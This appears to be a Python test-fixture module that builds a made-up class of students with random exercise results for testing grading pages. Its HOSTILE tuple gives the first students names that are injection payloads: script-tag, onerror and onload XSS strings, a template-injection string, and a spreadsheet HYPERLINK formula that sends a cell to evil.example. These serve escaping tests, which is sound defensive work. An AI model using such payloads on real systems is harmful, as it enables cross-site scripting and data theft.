"""A made-up class for tests of pages and grades: real exercises and checks, random results."""

import functools
import random
from dataclasses import replace
from typing import Any

from grader import catalog
from grader.catalog import mistakes
from grader.classroom.marks import Student
from grader.records.results import ERROR, FAILED, NOT_CHECKED, PASSED, CheckResult, ExerciseResult

HOSTILE = (
    "<script>window.stolen = 1</script>",
    "</script><img src=x onerror='window.stolen = 2'>",
    '"><svg/onload=window.stolen=3>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    'O\'Neil, "Bobby"\nTables',
    "\u202egnihton\u202c",
    "{{constructor.constructor('window.stolen=4')()}}",
)


def folders(count: int = 13) -> tuple[str, ...]:
    """The folders of the first exercises."""
    return tuple(exercise.folder for exercise in catalog.for_class()[:count])


def students(count: int) -> list[Student]:
    """So many students. The names of the first ones are attacks."""
    names = [*HOSTILE, *(f"Student {number:05}" for number in range(len(HOSTILE), count))]
    return [Student(f"s{number:05}", name) for number, name in enumerate(names[:count])]


def results(student: Student, exercises: tuple[str, ...], seed: int = 0) -> list[ExerciseResult]:
    """The results of one student: of all, some or no exercises; right, wrong, not loaded or not started."""
    draw = random.Random(f"{seed} {student.id}")
    talent = draw.random()
    if talent < 0.03:
        return []
    return [result(folder, student, talent, draw) for folder in exercises if draw.random() < 0.9]


def result(folder: str, student: Student, talent: float, draw: random.Random) -> ExerciseResult:
    """A random result. talent: from 0 to 1, how likely a check is passed."""
    exercise = catalog.find(folder)
    fate = draw.random()
    facts = {
        "exercise": folder,
        "title": exercise.title,
        "submission": f"{student.id}/{exercise.slug}.py",
        "device": "cpu",
        "seed": 7,
        "duration_s": round(draw.random(), 4),
    }
    points = exercise.points.items()
    if fate < 0.03:
        reason = "not checked: the file could not be loaded"
        checks = tuple(CheckResult(name, name, NOT_CHECKED, 0.0, most, reason) for name, most in points)
        return ExerciseResult(**facts, status=ERROR, checks=checks, message="SyntaxError: '(' was never closed")
    started = fate > 0.06
    chance = (0.5 + talent / 2) * started
    checks = tuple(check(folder, name, most, draw.random() < chance, draw) for name, most in points)
    if not started:
        checks = tuple(replace(check, diagnosis=None) for check in checks)
    status = PASSED if all(check.outcome == PASSED for check in checks) else FAILED
    return ExerciseResult(**facts, status=status, checks=checks, started=started, output="a print of the learner's")


def check(folder: str, name: str, most: float, passed: bool, draw: random.Random) -> CheckResult:
    """The result of one check. most: its points."""
    title = name.replace("_", " ").capitalize() + "."
    if passed:
        return CheckResult(name, title, PASSED, most, most, hidden=True)
    message = "the result differs from the expected one\ncalled   f(tensor (2, 3))"
    diagnosis = draw.choice([None, *sentences(folder)])
    return CheckResult(name, title, FAILED, 0.0, most, message, diagnosis, hidden=True, task=1)


@functools.cache
def sentences(folder: str) -> list[str]:
    """Diagnoses of an exercise: the sentences of its first mistakes."""
    return [mistake.sentence for mistake in mistakes.mistakes(folder)[:4]]


def result_of(folder: str, passed: float = 1.0, **changes: Any) -> ExerciseResult:
    """A result in which the first checks pass and the others fail. passed: the share that pass; changes: of fields."""
    exercise = catalog.find(folder)
    border = round(passed * len(exercise.points))
    checks = tuple(
        CheckResult(name, f"{name}.", PASSED, most, most)
        if number < border
        else CheckResult(name, f"{name}.", FAILED, 0.0, most, "the numbers differ")
        for number, (name, most) in enumerate(exercise.points.items())
    )
    facts = {
        "exercise": folder,
        "title": exercise.title,
        "submission": f"{exercise.slug}.py",
        "device": "cpu",
        "seed": 7,
        "status": PASSED if passed == 1 else FAILED,
        "duration_s": 0.5,
        "checks": checks,
    }
    return ExerciseResult(**{**facts, **changes})
